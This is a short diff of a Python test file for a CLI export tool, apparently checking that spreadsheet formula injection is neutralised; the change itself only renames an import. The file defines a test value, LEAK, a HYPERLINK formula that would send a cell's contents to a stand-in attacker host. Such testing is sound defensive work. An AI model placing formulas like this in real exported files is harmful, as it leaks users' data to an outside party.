@@ -14,7 +14,7 @@ import pytest
 from click.testing import CliRunner
 
 from groundtui.cli import cli
-from groundtui.exporting.labels import COLUMNS, FORMULA_STARTS
+from groundtui.exporting.claim_rows import COLUMNS, FORMULA_STARTS
 from tests.helpers.builders import imported_db
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the source")'
